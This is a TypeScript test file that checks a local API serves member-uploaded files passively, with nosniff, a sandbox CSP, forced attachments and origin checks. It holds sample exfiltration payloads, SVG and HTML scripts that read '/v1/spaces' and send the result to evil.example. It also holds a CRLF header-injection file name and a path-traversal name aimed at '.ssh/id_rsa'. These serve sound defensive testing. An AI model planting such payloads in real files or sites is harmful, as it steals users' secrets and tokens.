import { connect } from 'node:net'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { contentDisposition, servedAs } from '../../server/http/content-policy.ts'
import { bootApp, call, expectError, listen, newObject, newSpace, ok, openSse, type Booted } from '../routes/helpers.ts'

/*
 * Issue 33, "a member's file runs script on the API's origin": an SVG or HTML file a member
 * attached was served inline with the type it chose, so opening it in a browser ran its script
 * on http://127.0.0.1:7001, where its same-origin GETs (no Origin header) read every space's
 * push keys and live invite tokens. docs/security.md "The local machine".
 */
let a: Booted
let spaceId: string
let objectId: string
let S: string

beforeAll(async () => {
  a = await bootApp()
  spaceId = await newSpace(a.app, 'Active content')
  objectId = await newObject(a.app, spaceId)
  S = `/v1/spaces/${spaceId}`
}, 60_000)
afterAll(async () => {
  await a?.close()
})

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("/v1/spaces").then(r => r.text()).then(t => fetch("https://evil.example/?" + t))</script></svg>'
const HTML = '<!doctype html><script>fetch("/v1/spaces").then(r => r.json()).then(s => navigator.sendBeacon("https://evil.example", JSON.stringify(s)))</script>'

const attach = async (bytes: Uint8Array | string, name: string, mime: string) =>
  (
    await ok<{ fileId: string }>(
      a.app.inject({
        method: 'POST',
        url: `${S}/objects/${objectId}/files?name=${encodeURIComponent(name)}&mime=${encodeURIComponent(mime)}`,
        payload: Buffer.from(bytes),
        headers: { 'content-type': 'application/octet-stream' },
      }),
      201,
    )
  ).fileId
const content = (fileId: string, query = '', headers: Record<string, string> = {}) => a.app.inject({ method: 'GET', url: `${S}/files/${fileId}/content${query}`, headers })

function expectPassiveHeaders(headers: Record<string, unknown>) {
  expect(headers['x-content-type-options']).toBe('nosniff')
  expect(headers['content-security-policy']).toBe("default-src 'none'; sandbox")
}

describe('file content is never active on the API origin', () => {
  it('an SVG with script is an opaque attachment, with nosniff and a sandboxing CSP', async () => {
    const id = await attach(SVG, 'cat.svg', 'image/svg+xml')
    const res = await content(id)
    expect(res.statusCode).toBe(200)
    expectPassiveHeaders(res.headers)
    expect(res.headers['content-type']).toBe('application/octet-stream')
    expect(res.headers['content-disposition']).toBe(`attachment; filename="cat.svg"; filename*=UTF-8''cat.svg`)
    expect(res.body).toBe(SVG)
    // The declared type is still what the file info says; only what is served changes.
    expect((await ok(call(a.app, 'GET', `${S}/files/${id}`))).mime).toBe('image/svg+xml')
  })

  it('an HTML file is an attachment too, and so is any text/* other than plain', async () => {
    for (const mime of ['text/html', 'application/xhtml+xml', 'text/xml', 'text/javascript', 'text/css', 'application/pdf+x']) {
      const res = await content(await attach(HTML, 'page.html', mime))
      expectPassiveHeaders(res.headers)
      expect({ mime, type: res.headers['content-type'], disposition: String(res.headers['content-disposition']).split(';')[0] }).toEqual({
        mime,
        type: 'application/octet-stream',
        disposition: 'attachment',
      })
    }
  })

  it('raster images, audio, video and PDF are served inline with their type; plain text as UTF-8 text', async () => {
    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: { r: 1, g: 2, b: 3 } } })
      .png()
      .toBuffer()
    for (const [mime, served] of [
      ['image/png', 'image/png'],
      ['audio/mpeg', 'audio/mpeg'],
      ['video/mp4', 'video/mp4'],
      ['application/pdf', 'application/pdf'],
      ['text/plain', 'text/plain; charset=utf-8'],
    ]) {
      const res = await content(await attach(png, 'x.bin', mime))
      expectPassiveHeaders(res.headers)
      expect({ mime, type: res.headers['content-type'], disposition: res.headers['content-disposition'] }).toEqual({
        mime,
        type: served,
        disposition: `inline; filename="x.bin"; filename*=UTF-8''x.bin`,
      })
    }
  })

  it('a variant carries the same headers', async () => {
    const png = await sharp({ create: { width: 300, height: 100, channels: 3, background: { r: 9, g: 9, b: 9 } } })
      .png()
      .toBuffer()
    const res = await content(await attach(png, 'wide.png', 'image/png'), '?variant=w64')
    expect(res.statusCode).toBe(200)
    expectPassiveHeaders(res.headers)
    expect(res.headers['content-type']).toBe('image/png')
    expect(res.headers['content-disposition']).toMatch(/^inline; /)
  })

  it('a record a member wrote by hand with a hostile type and name is still an opaque attachment with a header-safe name', async () => {
    const body = Buffer.from(HTML)
    const doc = { name: 'x"\r\nSet-Cookie: a=b;.html', mime: 'TEXT/HTML\r\nX-Injected: 1', size: body.length, creator: a.accountId, hash: 'h', inline: body.toString('base64') }
    await ok(call(a.app, 'POST', `${S}/modify`, { objectId, dataset: 'files', records: [{ id: 'HandMade1', upsert: true, ops: [{ type: '$set', path: '', value: doc }] }] }))
    const res = await content('HandMade1')
    expect(res.statusCode).toBe(200)
    expectPassiveHeaders(res.headers)
    expect(res.headers['content-type']).toBe('application/octet-stream')
    expect(res.headers['x-injected']).toBeUndefined()
    expect(res.headers['set-cookie']).toBeUndefined()
    expect(res.headers['content-disposition']).toBe(`attachment; filename="x___Set-Cookie: a=b_.html"; filename*=UTF-8''x%22%0D%0ASet-Cookie%3A%20a%3Db%3B.html`)
  })

  it('the policy reads a media type case-insensitively and without parameters, and names stay inside their quotes', () => {
    expect(servedAs('IMAGE/PNG; x=1', 'a.png').contentType).toBe('image/png')
    expect(servedAs('image/svg+xml', 'a.svg').contentType).toBe('application/octet-stream')
    expect(servedAs('Text/Plain;charset=latin1', 'a.txt').contentType).toBe('text/plain; charset=utf-8')
    expect(servedAs('', '').disposition).toBe('attachment; filename="file"')
    expect(contentDisposition('attachment', '../../.ssh/id_rsa')).toBe(`attachment; filename="__.._.ssh_id_rsa"; filename*=UTF-8''..%2F..%2F.ssh%2Fid_rsa`)
    expect(contentDisposition('inline', 'Ünïcødé 文件.png')).toBe(`inline; filename="_n_c_d_ __.png"; filename*=UTF-8''%C3%9Cn%C3%AFc%C3%B8d%C3%A9%20%E6%96%87%E4%BB%B6.png`)
  })
})

describe('every response of the API is nosniff', () => {
  it('JSON answers, errors, the 404 of an unknown route, a malformed URL, an error of the HTTP parser and a stream', async () => {
    expectPassiveHeaders((await call(a.app, 'GET', '/v1/spaces')).headers)
    expectPassiveHeaders((await call(a.app, 'GET', '/v1/health')).headers)
    expectPassiveHeaders((await call(a.app, 'GET', `${S}/files/nope`)).headers)
    expectPassiveHeaders((await call(a.app, 'GET', '/v1/no-such-route')).headers)
    expectPassiveHeaders((await call(a.app, 'GET', `${S}/files/%E0%A4%A`)).headers)
    const base = await listen(a.app)
    // An answer of the HTTP parser itself, before any request exists.
    const raw = await new Promise<string>((resolve, reject) => {
      const socket = connect(Number(new URL(base).port), '127.0.0.1', () => socket.write('NOT HTTP\r\n\r\n'))
      let text = ''
      socket.on('data', (d) => (text += d.toString('latin1')))
      socket.on('close', () => resolve(text))
      socket.on('error', reject)
    })
    expect(raw).toMatch(/^HTTP\/1\.1 400 /)
    expect(raw).toContain('\r\nX-Content-Type-Options: nosniff\r\n')
    expect(raw).toContain("\r\nContent-Security-Policy: default-src 'none'; sandbox\r\n")
    const stream = await openSse(`${base}${S}/files/subscribe`)
    try {
      expect(stream.res.headers['content-type']).toMatch(/^text\/event-stream/)
      expectPassiveHeaders(stream.res.headers)
    } finally {
      stream.destroy()
    }
  })
})

/*
 * The decision on secrets (docs/security.md "The local machine"): the API's origin serves one
 * page, the web app (strict CSP, its own bundled script), and every file under the sandbox CSP,
 * which gives a file's document an opaque origin and no script. So a script's request marked
 * `Sec-Fetch-Site: same-origin` comes from the app, and is served. Anything else a document of
 * this origin loads (a frame, an image, a navigation it starts) is refused everywhere except
 * the file content route; and a sandboxed file's requests carry `Origin: null`, which is
 * refused like any other foreign origin.
 */
describe("a document of the API's own origin cannot read secrets", () => {
  it('same-origin loads that are not a script fetch are 403 for the space list, invites or anything else; file content is not', async () => {
    const { inviteToken } = await ok(call(a.app, 'POST', `${S}/invites`, { permission: 'writer' }), 201)
    expect(inviteToken).toBeTruthy()
    for (const dest of ['document', 'iframe', 'image', 'script', 'style']) {
      const sameOrigin = { 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': dest }
      for (const url of ['/v1/spaces', S, `${S}/invites`, '/v1/account', '/v1/health']) {
        expectError(await a.app.inject({ method: 'GET', url, headers: sameOrigin }), 403, 'request.forbidden_origin')
      }
    }
    const id = await attach('a video, say', 'v.mp4', 'video/mp4')
    const media = await content(id, '', { 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'video', range: 'bytes=0-3' })
    expect(media.statusCode).toBe(206)
  })

  it("a sandboxed file's requests (Origin null, cross-site) are refused", async () => {
    const opaque = { origin: 'null', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty' }
    for (const url of ['/v1/spaces', `${S}/invites`]) expectError(await a.app.inject({ method: 'GET', url, headers: opaque }), 403, 'request.forbidden_origin')
    expectError(await a.app.inject({ method: 'POST', url: '/v1/spaces', payload: { name: 'x' }, headers: opaque }), 403, 'request.forbidden_origin')
  })

  it("the web app's own fetches are served: same-origin script requests, with its origin or none", async () => {
    const app = { 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty', host: '127.0.0.1:7001' }
    await ok(a.app.inject({ method: 'GET', url: `${S}/invites`, headers: app }))
    await ok(a.app.inject({ method: 'POST', url: '/v1/spaces', payload: { name: 'from the app' }, headers: { ...app, origin: 'http://127.0.0.1:7001' } }), 201)
    // Another port on this machine is another origin.
    expectError(
      await a.app.inject({ method: 'GET', url: '/v1/spaces', headers: { ...app, origin: 'http://127.0.0.1:8080', 'sec-fetch-site': 'same-site' } }),
      403,
      'request.forbidden_origin',
    )
  })

  it('clients outside a browser, a tab the user opened and pages on allowlisted origins are unaffected', async () => {
    const spaces = await ok<Array<{ push?: unknown }>>(call(a.app, 'GET', '/v1/spaces'))
    expect(spaces.length).toBeGreaterThan(0)
    await ok(a.app.inject({ method: 'GET', url: `${S}/invites`, headers: { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'navigate' } }))
    await ok(a.app.inject({ method: 'GET', url: `${S}/invites`, headers: { origin: 'http://localhost:5173', 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'cors' } }))
    await ok(a.app.inject({ method: 'GET', url: `${S}/invites`, headers: { origin: 'http://127.0.0.1:5173', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors' } }))
  })
})
